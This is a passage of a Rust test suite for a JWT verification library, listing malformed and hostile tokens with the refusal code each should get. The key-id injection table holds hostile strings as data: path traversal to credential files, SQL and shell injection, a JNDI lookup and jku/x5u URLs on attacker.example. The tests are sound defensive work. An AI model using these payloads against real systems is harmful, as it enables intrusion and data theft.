//! Malformed and hostile tokens, each with the stable code of its refusal (RFC 7515, RFC 7519, RFC 8725).
//!
//! The tables together meet every code that `docs/errors.md` lists for tokens. Key sets have their own tables.

#![allow(
    clippy::unwrap_used,
    clippy::indexing_slicing,
    reason = "a table row that cannot be built is a failed test"
)]

#[path = "../common/mod.rs"]
mod common;
mod profiles;
mod templates;

use std::collections::BTreeSet;
use std::sync::LazyLock;

use aws_lc_rs::hmac;
use common::{
    AUDIENCE, CLAIMS, ED25519, HEADER, ISSUER, NOW, P256, P256_ORDER, P384, RSA_A, RSA_B, TestKey, codes,
    compact, decode, der_signature, hex, key_set, member, past_the_order, prefixed, public_forms, resigned,
    segments, sign, signature_of, signing_input, with,
};
use jwksmith_jose::limits::{HEADER_BYTES_MAX, KID_BYTES_MAX, SIGNATURE_BYTES_MAX, TOKEN_BYTES_MAX};
use jwksmith_jose::{
    AccessClaims, Algorithm, KeySet, Policy, PolicyError, Refusal, UnixTime, base64url_encode, explain,
    preflight, verify,
};

/// One row: a token, how it is verified, and the code that refuses it, or nothing if it is good.
struct Case {
    what: String,
    token: String,
    keys: &'static LazyLock<KeySet>,
    policy: Policy,
    now: u64,
    expected: Option<&'static str>,
}

impl Case {
    fn keys(self, keys: &'static LazyLock<KeySet>) -> Self {
        Self { keys, ..self }
    }

    fn policy(self, policy: Policy) -> Self {
        Self { policy, ..self }
    }

    fn at(self, now: u64) -> Self {
        Self { now, ..self }
    }

    fn refusal(&self) -> Option<Refusal> {
        verify::<AccessClaims>(&self.token, self.keys, &self.policy, self.time()).err()
    }

    fn time(&self) -> UnixTime {
        UnixTime::from_seconds(self.now)
    }

    /// What else there is to ask must answer as `verify` does.
    fn other_answer(&self, refusal: Option<&Refusal>) -> Option<String> {
        // The shape is the caller's own affair.
        let refusal = refusal.filter(|refusal| refusal.code() != "claims_shape");
        let explanation = explain(&self.token, self.keys, &self.policy, self.time());
        if explanation.refusal() != refusal {
            return Some(format!("explained as {:?}", explanation.refusal()));
        }
        // Once more, when a good token's header is remembered.
        let again = self.refusal().filter(|refusal| refusal.code() != "claims_shape");
        if again.as_ref() != refusal {
            return Some(format!("answered the second time with {again:?}"));
        }
        let early = preflight(&self.token, &self.policy, self.time()).err();
        let is_wrong = early.is_some() && refusal.is_none();
        is_wrong.then(|| format!("refused before its key was looked at, with {early:?}"))
    }

    /// What is wrong with the answer, if anything is.
    fn fault(&self) -> Option<String> {
        let refusal = self.refusal();
        let code = refusal.as_ref().map(Refusal::code);
        if code != self.expected {
            return Some(format!("{}: expected {:?}, got {refusal:?}", self.what, self.expected));
        }
        if let Some(fault) = self.other_answer(refusal.as_ref()) {
            return Some(format!("{}: {fault}", self.what));
        }
        let message = refusal?.to_string();
        let leaks = self.token.rsplit('.').any(|segment| segment.len() > 16 && message.contains(segment));
        // `char::is_control` knows neither line separators nor the marks that turn text around.
        let raw = message.chars().any(|c| c.is_control() || ('\u{2028}'..='\u{202e}').contains(&c));
        (message.is_empty() || message.len() > 2000 || raw || leaks)
            .then(|| format!("{}: the message is not fit for a log: {message:.200?}", self.what))
    }
}

/// A token that is refused with this code.
fn refused(code: &'static str, what: impl Into<String>, token: impl Into<String>) -> Case {
    Case { expected: Some(code), ..accepted(what, token) }
}

/// A token that is accepted.
fn accepted(what: impl Into<String>, token: impl Into<String>) -> Case {
    let (what, token) = (what.into(), token.into());
    Case { what, token, keys: &KEYS, policy: policy(Algorithm::asymmetric()), now: NOW, expected: None }
}

/// Runs every row, says which are wrong, and gives the codes that were met.
fn check(cases: &[Case]) -> BTreeSet<&'static str> {
    let faults: Vec<String> = cases.iter().filter_map(Case::fault).collect();
    assert!(faults.is_empty(), "{} of {} rows:\n{}", faults.len(), cases.len(), faults.join("\n"));
    cases.iter().filter_map(|case| case.expected).collect()
}

fn policy(algorithms: impl IntoIterator<Item = Algorithm>) -> Policy {
    Policy::new(ISSUER, AUDIENCE, algorithms).unwrap().leeway(0).unwrap()
}

/// Good keys of each type, a name that two keys share, and a key that cannot be used.
static KEYS: LazyLock<KeySet> = LazyLock::new(|| {
    let good = [&RSA_A, &RSA_B, &P256, &P384, &ED25519].map(|key| key.jwk());
    let odd = [
        RSA_A.jwk_with(&[("kid", "\"twin\"")]),
        RSA_B.jwk_with(&[("kid", "\"twin\"")]),
        RSA_A.jwk_with(&[("kid", "\"encrypts\""), ("use", "\"enc\"")]),
    ];
    KeySet::parse(key_set(&[&good[..], &odd[..]].concat()).as_bytes()).unwrap()
});

/// One RSA key that names no algorithm, so that only the family limits what it may be used with.
static ANY_RSA: LazyLock<KeySet> =
    LazyLock::new(|| KeySet::parse(key_set(&[RSA_A.jwk_with(&[("alg", "")])]).as_bytes()).unwrap());

/// The operator's own file: an RSA key beside a shared secret that has nothing to do with it.
static WITH_SECRET: LazyLock<KeySet> = LazyLock::new(|| {
    let secret =
        format!(r#"{{"kty":"oct","kid":"secret","alg":"HS256","k":"{}"}}"#, base64url_encode([7; 32]));
    KeySet::parse_local(key_set(&[RSA_A.jwk(), secret]).as_bytes()).unwrap()
});

/// A token that `key` signs, its header as given.
fn with_header(key: &TestKey, header: &str) -> String {
    sign(&key.signing, header, CLAIMS)
}

/// A good token but for these members of its header.
fn header(changes: &[(&str, &str)]) -> String {
    RSA_A.token(changes, &[])
}

/// A good token but for these claims.
fn claims(changes: &[(&str, &str)]) -> String {
    RSA_A.token(&[], changes)
}

fn form() -> Vec<Case> {
    let good = header(&[]);
    let [h, p, s] = segments(&good);
    let mut cases = vec![
        accepted("an untouched token", good.clone()),
        refused("token_malformed", "nothing", ""),
        refused("token_malformed", "one segment", h),
        refused("token_malformed", "two segments: the signature cut off", format!("{h}.{p}")),
        refused("token_malformed", "four segments", format!("{good}.{s}")),
        refused("token_malformed", "a dot at the end", format!("{good}.")),
        refused("token_malformed", "a dot at the start", format!(".{good}")),
        refused("token_encrypted", "five segments", format!("{good}.{s}.{s}")),
        refused("token_encrypted", "four dots", "...."),
        refused("token_malformed", "six segments", format!("{good}.{s}.{s}.{s}")),
        refused("token_malformed", "the JSON serialization", r#"{"payload":"x","signatures":[]}"#),
        refused("header_malformed", "two dots", ".."),
        refused("header_malformed", "an empty header", format!(".{p}.{s}")),
        refused("signature_invalid", "empty claims", format!("{h}..{s}")),
        refused("signature_invalid", "an empty signature", format!("{h}.{p}.")),
        refused("token_malformed", "dots up to the limit", ".".repeat(TOKEN_BYTES_MAX)),
        refused("token_too_large", "dots past the limit", ".".repeat(TOKEN_BYTES_MAX + 1)),
        refused("token_too_large", "a million dots", ".".repeat(1_000_000)),
        refused("token_too_large", "ten megabytes of claims", format!("{h}.{}.{s}", "A".repeat(10_000_000))),
        refused("token_encoding", "the scheme before the token", format!("Bearer {good}")),
        refused("token_encoding", "quotes around the token", format!("\"{good}\"")),
    ];
    for (at, name) in ["header", "claims", "signature"].into_iter().enumerate() {
        cases.extend(altered_spellings(at, name, [h, p, s]));
    }
    cases
}

/// One segment spelt as a lax decoder would still read it.
fn altered_spellings(at: usize, name: &str, parts: [&str; 3]) -> Vec<Case> {
    let part = parts[at];
    let (head, tail) = part.split_at(part.len() / 2);
    let spellings = [
        ("padding", format!("{part}=")),
        ("more padding", format!("{part}==")),
        ("a space before it", format!(" {part}")),
        ("a space after it", format!("{part} ")),
        ("a line break after it", format!("{part}\n")),
        ("a line break inside", format!("{head}\r\n{tail}")),
        ("a tab inside", format!("{head}\t{tail}")),
        ("a NUL inside", format!("{head}\0{tail}")),
        ("a plus sign", format!("++++{part}")),
        ("a slash", format!("////{part}")),
        ("percent encoding", format!("%41{part}")),
        ("a letter beyond ASCII", format!("{head}é{tail}")),
        ("a single character", "A".to_owned()),
    ];
    let row = |(what, spelling): (&str, String)| {
        let mut parts = parts.map(str::to_owned);
        parts[at] = spelling;
        refused("token_encoding", format!("{what} in the {name}"), parts.join("."))
    };
    spellings.into_iter().map(row).collect()
}

/// Trailing bits that no byte uses: the same bytes for a lax decoder, in another spelling.
fn trailing_bits() -> Vec<Case> {
    // Spaces bring each text to a length that leaves four unused bits; an RSA 2048 signature has such a length already.
    let padded = |text: &str| format!("{text}{}", " ".repeat((4 - text.len() % 3) % 3));
    let good = sign(&RSA_A.signing, padded(HEADER), padded(CLAIMS));
    let altered = |at: usize| {
        let mut parts = segments(&good).map(str::to_owned);
        let last = parts[at].pop().unwrap();
        assert!("AQgw".contains(last), "segment {at} must leave four bits unused, ends in {last}");
        parts[at].push(char::from_u32(u32::from(last) + 1).unwrap());
        parts
    };
    let mut cases = vec![accepted("white space in the JSON", good.clone())];
    for at in 0..3 {
        cases.push(refused(
            "token_encoding",
            format!("trailing bits in segment {at}"),
            altered(at).join("."),
        ));
    }
    // Signed in that spelling, so that nothing but the spelling is wrong.
    for at in 0..2 {
        let input = altered(at)[..2].join(".");
        let signature = RSA_A.signing.sign(input.as_bytes()).unwrap();
        cases.push(refused(
            "token_encoding",
            format!("signed bits in segment {at}"),
            compact(&input, signature),
        ));
    }
    cases
}

fn sizes() -> Vec<Case> {
    let spaced_header = |bytes: usize| {
        let token = with_header(&RSA_A, &format!("{HEADER}{}", " ".repeat(bytes - HEADER.len())));
        assert!(token.len() <= TOKEN_BYTES_MAX);
        token
    };
    let signature = |bytes: usize| resigned(&header(&[]), vec![1; bytes]);
    vec![
        accepted("a token at its limit", token_of(TOKEN_BYTES_MAX)),
        refused("token_too_large", "a token one past its limit", token_of(TOKEN_BYTES_MAX + 1)),
        accepted("a header at its limit", spaced_header(HEADER_BYTES_MAX)),
        refused("token_too_large", "a header one past its limit", spaced_header(HEADER_BYTES_MAX + 1)),
        refused("signature_invalid", "a signature at its limit", signature(SIGNATURE_BYTES_MAX)),
        refused("token_too_large", "a signature one past its limit", signature(SIGNATURE_BYTES_MAX + 1)),
    ]
}

/// A well-signed token of exactly so many bytes.
fn token_of(bytes: usize) -> String {
    let signature = signature_of(&header(&[])).len().div_ceil(3) * 4 - 2;
    // No base64url text has a length of 4n + 1, so the header takes a space or two more where the claims cannot fit.
    let fitting = (0..3).find_map(|spaces| {
        let header = format!("{HEADER}{}", " ".repeat(spaces));
        let rest = bytes - base64url_encode(&header).len() - signature - 2;
        (rest % 4 != 1)
            .then(|| sign(&RSA_A.signing, header, format!("{CLAIMS:<width$}", width = rest * 3 / 4)))
    });
    let token = fitting.unwrap();
    assert_eq!(token.len(), bytes);
    token
}

fn header_json() -> Vec<Case> {
    let malformed: [&[u8]; 16] = [
        b"null",
        b"1",
        b"\"RS256\"",
        b"[]",
        b"[{\"alg\":\"RS256\"}]",
        b"RS256",
        b"{",
        b"{'alg':'RS256'}",
        b"{\"alg\":\"RS256\",}",
        b"{\"alg\":\"RS256\"}{}",
        b"{\"alg\":\"RS256\"} x",
        b"\xef\xbb\xbf{\"alg\":\"RS256\"}",
        b"{\"alg\":\"RS256\",\"x\":\"\xff\"}",
        b"{\"alg\":\"RS256\",\"x\":NaN}",
        b"{\"alg\":\"RS256\",\"x\":1e400}",
        b"{\"alg\":\"RS256\",\"x\":\"\\ud800\"}",
    ];
    let rows = malformed.map(|text| {
        let what = format!("the header {:?}", String::from_utf8_lossy(text));
        refused("header_malformed", what, sign(&RSA_A.signing, text, CLAIMS))
    });
    let deep = |levels: usize| header(&[("x", &format!("{}{}", "[".repeat(levels), "]".repeat(levels)))]);
    let wide = |members: usize| {
        let members: Vec<String> = (0..members).map(|n| format!("\"m{n}\":0")).collect();
        header(&[("x", &format!("{{{}}}", members.join(",")))])
    };
    let mut rows = Vec::from(rows);
    rows.extend([
        accepted("a header nested to the limit", deep(31)),
        refused("header_malformed", "a header nested one past the limit", deep(32)),
        refused("header_malformed", "a header of brackets", with_header(&RSA_A, &"[".repeat(8000))),
        accepted("a header's object with members up to the limit", wide(512)),
        refused("header_malformed", "a header's object with one member too many", wide(513)),
    ]);
    rows
}

fn header_members() -> Vec<Case> {
    let mut cases = vec![accepted("unknown members", header(&[("x", "{\"alg\":\"none\"}"), ("cty", "1")]))];
    let duplicates = [
        "\"alg\":\"none\"",
        "\"alg\":\"RS256\"",
        "\"\\u0061lg\":\"none\"",
        "\"kid\":\"rsa-b\"",
        "\"k\\u0069d\":null",
        "\"typ\":\"JWT\"",
        "\"x\":1,\"x\":1",
        "\"x\":[{\"y\":1,\"y\":2}]",
        "\"x\\r\\n\":1,\"x\\r\\n\":1",
    ];
    cases.extend(duplicates.map(|raw| {
        let token = with_header(&RSA_A, &prefixed(HEADER, raw));
        refused("header_duplicate_member", format!("the header member {raw} twice"), token)
    }));
    for name in ["alg", "kid", "typ"] {
        let wrong = ["null", "1", "-1.5", "true", "[]", "[\"RS256\"]", "{}", "{\"RS256\":1}"];
        cases.extend(wrong.map(|raw| {
            refused("header_member_type", format!("the header's {name} is {raw}"), header(&[(name, raw)]))
        }));
    }
    cases.push(refused("header_member_type", "no alg", header(&[("alg", "")])));
    cases.push(refused(
        "header_member_type",
        "Alg in capitals",
        header(&[("alg", ""), ("Alg", "\"RS256\"")]),
    ));
    for (name, raw) in
        [("crit", "[]"), ("crit", "[\"exp\"]"), ("crit", "[\"x\"]"), ("crit", "\"exp\""), ("crit", "null")]
            .into_iter()
            .chain([("crit", "{}"), ("crit", "[1]"), ("b64", "false"), ("b64", "true"), ("b64", "null")])
    {
        cases.push(refused("crit_unsupported", format!("{name} is {raw}"), header(&[(name, raw)])));
    }
    let understood = header(&[("crit", "[\"b64\"]"), ("b64", "false")]);
    cases.push(refused("crit_unsupported", "crit with b64", understood));
    cases
}

fn embedded_keys() -> Vec<Case> {
    let jwk = RSA_B.jwk();
    let places = [
        ("jwk", jwk.as_str()),
        ("jwk", "null"),
        ("jwk", "{}"),
        ("jku", "\"https://attacker.example/jwks.json\""),
        ("jku", "null"),
        ("x5u", "\"https://attacker.example/cert.pem\""),
        ("x5u", "[]"),
    ];
    let mut cases = Vec::new();
    for (name, raw) in places {
        let own = with(HEADER, &[(name, raw)]);
        cases.push(refused(
            "header_embedded_key",
            format!("{name}, signed by the issuer"),
            with_header(&RSA_A, &own),
        ));
        cases.push(refused(
            "header_embedded_key",
            format!("{name}, signed by the sender"),
            with_header(&RSA_B, &own),
        ));
        let nameless = with(&own, &[("kid", "")]);
        cases.push(refused(
            "header_embedded_key",
            format!("{name} and no kid"),
            with_header(&RSA_B, &nameless),
        ));
    }
    // RFC 7515 §4.1.6 and §4.1.7: a certificate in the header may stand there; it must decide nothing.
    let certificate = with(HEADER, &[("x5c", "[\"AAAA\"]"), ("x5t", "\"AAAA\""), ("x5t#S256", "\"AAAA\"")]);
    cases.push(accepted("a certificate in the header of a good token", with_header(&RSA_A, &certificate)));
    let forged = with_header(&RSA_B, &certificate);
    cases.push(refused("signature_invalid", "a certificate in the header, signed by the sender", forged));
    cases
}

fn algorithm_none() -> Vec<Case> {
    let mut cases = Vec::new();
    for name in ["none", "None", "NONE", "nOnE", "nonE", "noNe"] {
        let header = with(HEADER, &[("alg", &format!("{name:?}"))]);
        let input = signing_input(&header, CLAIMS);
        let nameless = signing_input(with(&header, &[("kid", "")]), CLAIMS);
        cases.extend([
            refused("alg_none", format!("{name} without a signature"), format!("{input}.")),
            refused("alg_none", format!("{name} with a signature"), with_header(&RSA_A, &header)),
            refused("alg_none", format!("{name} with no kid"), format!("{nameless}.")),
            refused("alg_none", format!("{name} under a policy for HMAC"), format!("{input}."))
                .policy(policy([Algorithm::HS256])),
        ]);
    }
    cases.push(refused(
        "token_malformed",
        "none with two segments",
        signing_input(r#"{"alg":"none"}"#, CLAIMS),
    ));
    cases
}

fn algorithm_names() -> Vec<Case> {
    let unsupported = [
        "",
        "foo",
        "zzz",
        " none",
        "none ",
        "none\\u0000",
        "n\\u00f6ne",
        "rs256",
        "Rs256",
        "RS256 ",
        "RS256\\u0000",
        "RS1",
        "HS1",
        "RS",
        "RSA",
        "SHA256",
        "RSA1_5",
        "RSA-OAEP",
        "dir",
        "A256GCM",
        "PBES2-HS256+A128KW",
        "ES256K-R",
        "es256k",
        "ESP256",
        "ESB256",
        "ECDH-ES",
        "A128KW",
        "Ed448",
        "eddsa",
        "ED25519",
        "ML-DSA",
        "ml-dsa-44",
        "SLH-DSA-SHA2-128s",
        "\\r\\nRS256\\u001b[2J",
        "\\u2028",
        "\\u202e652SR",
    ];
    let mut cases = Vec::new();
    for name in unsupported {
        let changed = with(HEADER, &[("alg", &format!("\"{name}\""))]);
        let unsigned = format!("{}.", signing_input(&changed, CLAIMS));
        cases.push(refused(
            "alg_unsupported",
            format!("alg {name:?}, signed"),
            with_header(&RSA_A, &changed),
        ));
        cases.push(refused("alg_unsupported", format!("alg {name:?}, no signature"), unsigned));
    }
    let long = header(&[("alg", &format!("\"{}\"", "\\u0007".repeat(1000)))]);
    cases.push(refused("alg_unsupported", "an endless alg of bells", long));
    let iterations = header(&[("alg", "\"PBES2-HS256+A128KW\""), ("p2c", "2147483647"), ("zip", "\"DEF\"")]);
    cases.push(refused("alg_unsupported", "a password hash without end", iterations));
    cases
}

fn algorithm_choice() -> Vec<Case> {
    let rs256 = || policy([Algorithm::RS256]);
    let mut cases = vec![
        accepted("an allowed algorithm", header(&[])).policy(rs256()),
        refused("alg_not_allowed", "ES256 where RS256 is allowed", P256.token(&[], &[])).policy(rs256()),
        refused("alg_not_allowed", "EdDSA where RS256 is allowed", ED25519.token(&[], &[])).policy(rs256()),
        refused("alg_not_allowed", "the name Ed25519 where RS256 is allowed", ed25519_by_its_new_name())
            .policy(rs256()),
        accepted("the name Ed25519 where EdDSA is allowed", ed25519_by_its_new_name())
            .policy(policy([Algorithm::EdDSA])),
        // The header lies about the algorithm; the signature fits the key.
        refused("key_alg_mismatch", "an RSA signature that says ES256", header(&[("alg", "\"ES256\"")])),
        refused("key_alg_mismatch", "ES384 with a P-256 key", P256.token(&[("alg", "\"ES384\"")], &[])),
        refused("key_alg_mismatch", "ES256 with a P-384 key", P384.token(&[("alg", "\"ES256\"")], &[])),
        refused("key_alg_mismatch", "EdDSA with a P-256 key", P256.token(&[("alg", "\"EdDSA\"")], &[])),
    ];
    // RFC 8725 §3.1: the key's `alg` pins one algorithm, not its family. The same private key, another algorithm.
    for other in ["RS384", "RS512", "PS256", "PS384", "PS512"] {
        let token = in_other_algorithm(other);
        cases.push(
            refused("alg_not_allowed", format!("{other} where RS256 is allowed"), token.clone())
                .policy(rs256()),
        );
        cases.push(refused("key_alg_mismatch", format!("{other} with a key for RS256"), token.clone()));
        cases.push(accepted(format!("{other} with an RSA key for any"), token).keys(&ANY_RSA));
    }
    let crossed = sign(&RSA_A.signing_with(Algorithm::PS256), HEADER, CLAIMS);
    cases.push(refused("signature_invalid", "a PSS signature that says RS256", crossed));
    let crossed = sign(&RSA_A.signing_with(Algorithm::RS512), HEADER, CLAIMS);
    cases.push(refused("signature_invalid", "SHA-512 in a signature that says RS256", crossed));
    cases
}

fn in_other_algorithm(name: &str) -> String {
    let key = RSA_A.signing_with(Algorithm::from_name(name).unwrap());
    sign(&key, with(HEADER, &[("alg", &format!("{name:?}"))]), CLAIMS)
}

fn ed25519_by_its_new_name() -> String {
    ED25519.token(&[("alg", "\"Ed25519\"")], &[])
}

fn hmac_token(algorithm: (&str, hmac::Algorithm), kid: &str, secret: &[u8]) -> String {
    let (name, hash) = algorithm;
    let header = with(HEADER, &[("alg", &format!("{name:?}")), ("kid", kid)]);
    let input = signing_input(header, CLAIMS);
    let signature = hmac::sign(&hmac::Key::new(hash, secret), input.as_bytes());
    compact(&input, signature.as_ref())
}

fn key_confusion() -> Vec<Case> {
    let mistaken = || policy([Algorithm::HS256, Algorithm::HS384, Algorithm::HS512]);
    let algorithms =
        [("HS256", hmac::HMAC_SHA256), ("HS384", hmac::HMAC_SHA384), ("HS512", hmac::HMAC_SHA512)];
    let mut cases = Vec::new();
    for (form, secret) in public_forms() {
        for algorithm in algorithms {
            let what = |setting: &str| format!("{} keyed by {form}, {setting}", algorithm.0);
            let token = |kid: &str| hmac_token(algorithm, kid, &secret);
            let (named, nameless) = (token("\"rsa-a\""), token(""));
            cases.extend([
                refused("alg_not_allowed", what("RS256 allowed"), &*named).policy(policy([Algorithm::RS256])),
                refused("alg_not_allowed", what("RS256 allowed, no kid"), &*nameless).keys(&ANY_RSA),
                refused("key_alg_mismatch", what("HMAC allowed"), &*named).policy(mistaken()),
                refused("key_alg_mismatch", what("HMAC allowed, key for any"), &*named)
                    .policy(mistaken())
                    .keys(&ANY_RSA),
                refused("kid_required", what("HMAC allowed, no kid"), &*nameless)
                    .policy(mistaken())
                    .keys(&ANY_RSA),
                refused("kid_unknown", what("HMAC allowed, unknown kid"), token("\"none\""))
                    .policy(mistaken()),
            ]);
        }
        let secretive = hmac_token(algorithms[0], "\"secret\"", &secret);
        let what = format!("HS256 keyed by {form}, a real secret under that kid");
        cases.push(refused("signature_invalid", what, secretive).keys(&WITH_SECRET).policy(mistaken()));
    }
    let honest = hmac_token(algorithms[0], "\"secret\"", &[7; 32]);
    cases.push(accepted("HS256 keyed by the secret", &*honest).keys(&WITH_SECRET).policy(mistaken()));
    cases.push(refused("alg_not_allowed", "the secret, RS256 allowed", honest).keys(&WITH_SECRET));
    cases
}

fn key_choice() -> Vec<Case> {
    let kid = |raw: &str| header(&[("kid", raw)]);
    vec![
        refused("kid_invalid", "an empty kid", kid("\"\"")),
        refused("kid_unknown", "a kid at its limit", kid(&format!("{:?}", "k".repeat(KID_BYTES_MAX)))),
        refused(
            "kid_invalid",
            "a kid one past its limit",
            kid(&format!("{:?}", "k".repeat(KID_BYTES_MAX + 1))),
        ),
        refused(
            "kid_unknown",
            "a kid at its limit in bytes",
            kid(&format!("{:?}", "é".repeat(KID_BYTES_MAX / 2))),
        ),
        refused(
            "kid_invalid",
            "a kid past its limit in bytes",
            kid(&format!("{:?}", "é".repeat(KID_BYTES_MAX / 2 + 1))),
        ),
        refused("kid_required", "no kid, two keys fit", kid("")),
        refused("kid_required", "no kid, no key fits", ED25519.token(&[("kid", "")], &[])).keys(&ANY_RSA),
        accepted("no kid, one key fits", kid("")).keys(&ANY_RSA),
        refused(
            "signature_invalid",
            "no kid, the one fitting key is another",
            RSA_B.token(&[("kid", "")], &[]),
        )
        .keys(&ANY_RSA),
        refused("kid_ambiguous", "a kid that two keys share", kid("\"twin\"")),
        refused(
            "key_alg_mismatch",
            "a kid that two keys share, neither fitting",
            P256.token(&[("kid", "\"twin\"")], &[]),
        ),
        refused("key_unusable", "a kid of a key for encryption", kid("\"encrypts\"")),
        refused("signature_invalid", "the kid of another key", kid("\"rsa-b\"")),
        refused("signature_invalid", "another key under that kid", RSA_B.token(&[("kid", "\"rsa-a\"")], &[])),
        refused("key_alg_mismatch", "the kid of a key of another type", kid("\"p256\"")),
        refused(
            "key_alg_mismatch",
            "an EC token with an RSA key's kid",
            P256.token(&[("kid", "\"rsa-a\"")], &[]),
        ),
        accepted("an escaped spelling of the kid", kid("\"rsa\\u002da\"")),
    ]
}

/// A `kid` is compared with published ones and nothing else: no file, no query, no log line may come of it.
fn key_injections() -> Vec<Case> {
    let injections = [
        "RSA-A",
        "rsa-a ",
        " rsa-a",
        "rsa-a\\u0000",
        "rsa-a\\n",
        "rsa",
        "rsa-aa",
        "*",
        "%",
        "0",
        "null",
        "undefined",
        "__proto__",
        "constructor",
        "../../../../dev/null",
        "..\\\\..\\\\windows\\\\win.ini",
        "/proc/sys/kernel/randomize_va_space",
        "file:///etc/passwd",
        "https://attacker.example/k",
        "' UNION SELECT 'secret' -- ",
        "1; DROP TABLE keys",
        "|sleep 10",
        "$(id)",
        "`id`",
        "${jndi:ldap://attacker.example/}",
        "{{7*7}}",
        "x\\r\\nSet-Cookie: a=b",
        "x\\u001b[31mred",
        "\\u0085",
        "\\u2028\\u2029",
        "\\u202egnp",
        "\\ufeffrsa-a",
        "\\u007f",
        "<script>alert(1)</script>",
        "\\ud83d\\ude00",
        "\\\"",
    ];
    let row = |text| {
        let kid = format!("\"{text}\"");
        refused("kid_unknown", format!("kid {text:?}"), header(&[("kid", &kid)]))
    };
    injections.into_iter().map(row).collect()
}

fn token_types() -> Vec<Case> {
    let access = || policy([Algorithm::RS256]).token_type("at+jwt").unwrap();
    let typ = |raw: &str| header(&[("typ", raw)]);
    let mut cases = Vec::new();
    for taken in ["at+jwt", "AT+JWT", "At+Jwt", "application/at+jwt", "APPLICATION/AT+JWT", "at\\u002bjwt"] {
        cases.push(accepted(format!("typ {taken}"), typ(&format!("\"{taken}\""))).policy(access()));
    }
    let others = [
        "JWT",
        "jwt",
        "",
        "at",
        "jwt+at",
        "at+jwt ",
        " at+jwt",
        "at+jwts",
        "x-at+jwt",
        "application/",
        "application/jwt",
        "application/application/at+jwt",
        "text/at+jwt",
        "applicationéat+jwt",
        "éééééééééééé",
        "logout+jwt",
        "a\\r\\nb",
    ];
    for other in others {
        let token = typ(&format!("\"{other}\""));
        cases.push(refused("typ_mismatch", format!("typ {other:?}"), &*token).policy(access()));
        cases.push(accepted(format!("typ {other:?}, none expected"), token));
    }
    cases.push(refused("typ_mismatch", "no typ", typ("")).policy(access()));
    cases.push(refused("header_member_type", "typ is a number", typ("1")).policy(access()));
    cases.push(accepted("no typ, none expected", typ("")));
    let spelt_out = policy([Algorithm::RS256]).token_type("application/at+jwt").unwrap();
    cases
        .push(accepted("the short form where the long one is expected", typ("\"at+jwt\"")).policy(spelt_out));
    cases
}

fn rsa_signatures() -> Vec<Case> {
    let good = header(&[]);
    let [_, other_claims, _] = segments(&claims(&[("sub", "\"admin\"")])).map(str::to_owned);
    let [h, p, s] = segments(&good);
    let bytes = signature_of(&good);
    let flipped = |at: usize| {
        let mut bytes = bytes.clone();
        bytes[at] ^= 1;
        bytes
    };
    let modulus = decode(&member(&RSA_A.jwk(), "n"));
    let signatures = [
        ("one byte", vec![0]),
        ("cut by a byte", bytes[..255].to_vec()),
        ("without its first byte", bytes[1..].to_vec()),
        ("cut in half", bytes[..128].to_vec()),
        ("a zero byte longer", [&bytes[..], &[0]].concat()),
        ("a zero byte in front", [&[0], &bytes[..]].concat()),
        ("twice", bytes.repeat(2)),
        ("all zeros", vec![0; 256]),
        ("one", [vec![0; 255], vec![1]].concat()),
        ("all ones", vec![0xff; 256]),
        ("the modulus", modulus),
        ("the first bit flipped", flipped(0)),
        ("the last bit flipped", flipped(255)),
    ];
    let mut cases: Vec<Case> = signatures
        .into_iter()
        .map(|(what, signature)| {
            refused("signature_invalid", format!("the signature: {what}"), resigned(&good, signature))
        })
        .collect();
    cases.extend([
        refused("signature_invalid", "claims of another token", format!("{h}.{other_claims}.{s}")),
        refused(
            "signature_invalid",
            "the header changed after signing",
            format!("{}.{p}.{s}", base64url_encode(with(HEADER, &[("typ", "\"JWT\"")]))),
        ),
        refused(
            "signature_invalid",
            "the header spelt another way",
            format!("{}.{p}.{s}", base64url_encode(format!(" {HEADER}"))),
        ),
    ]);
    cases
}

fn curve_signatures() -> Vec<Case> {
    let good = P256.token(&[], &[]);
    let bytes = signature_of(&good);
    let (r, s) = bytes.split_at(32);
    let (zero, order, one) = (vec![0; 32], hex(P256_ORDER), [vec![0; 31], vec![1]].concat());
    let pair = |r: &[u8], s: &[u8]| [r, s].concat();
    let signatures = [
        ("empty", Vec::new()),
        ("r and s zero (CVE-2022-21449)", pair(&zero, &zero)),
        ("r zero", pair(&zero, s)),
        ("s zero", pair(r, &zero)),
        ("r the order", pair(&order, s)),
        ("s the order", pair(r, &order)),
        ("r and s the order", pair(&order, &order)),
        ("r and s one", pair(&one, &one)),
        ("all ones", vec![0xff; 64]),
        ("r and s exchanged", pair(s, r)),
        ("cut by a byte", bytes[..63].to_vec()),
        ("a zero byte longer", pair(&bytes, &[0])),
        ("a zero byte in front", pair(&[0], &bytes)),
        ("66 bytes, each number a zero longer", [&[0], r, &[0], s].concat()),
        ("r only", r.to_vec()),
        ("as wide as ES384", pair(&[&zero[..16], r].concat(), &[&zero[..16], s].concat())),
        ("DER", der_signature(r, s)),
        ("DER of zeros", vec![0x30, 6, 2, 1, 0, 2, 1, 0]),
    ];
    let row = |what: &str, key: &TestKey, good: &str, signature: Vec<u8>| {
        refused("signature_invalid", format!("{} signature: {what}", key.key_id), resigned(good, signature))
    };
    let mut cases: Vec<Case> =
        signatures.into_iter().map(|(what, signature)| row(what, &P256, &good, signature)).collect();
    let good = ED25519.token(&[], &[]);
    let bytes = signature_of(&good);
    let signatures = [
        ("empty", Vec::new()),
        ("all zeros", vec![0; 64]),
        ("cut by a byte", bytes[..63].to_vec()),
        ("a zero byte longer", pair(&bytes, &[0])),
        ("S zero", pair(&bytes[..32], &zero)),
        ("R the neutral point, S zero", pair(&[vec![1], vec![0; 31]].concat(), &zero)),
        (
            "S past the order by the order (RFC 8032 §5.1.7)",
            pair(&bytes[..32], &past_the_order(&bytes[32..])),
        ),
    ];
    cases.extend(signatures.into_iter().map(|(what, signature)| row(what, &ED25519, &good, signature)));
    cases.extend([
        accepted("an ES256 token", P256.token(&[], &[])),
        accepted("an ES384 token", P384.token(&[], &[])),
        accepted("an EdDSA token", ED25519.token(&[], &[])),
    ]);
    cases
}

/// Nothing is said about claims that nobody proved: the signature's refusal comes first (CVE-2024-51744).
fn forged_claims() -> Vec<Case> {
    let faults: [&[(&str, &str)]; 9] = [
        &[],
        &[("exp", "1")],
        &[("exp", "\"never\"")],
        &[("exp", "")],
        &[("nbf", "9999999999")],
        &[("iss", "\"https://attacker.example/\"")],
        &[("aud", "\"https://other.example/\"")],
        &[("aud", "1")],
        &[("permissions", "1")],
    ];
    let mut cases: Vec<Case> = faults
        .into_iter()
        .map(|changes| {
            let token = RSA_B.token(&[("kid", "\"rsa-a\"")], changes);
            refused("signature_invalid", format!("forged, and {changes:?}"), token)
        })
        .collect();
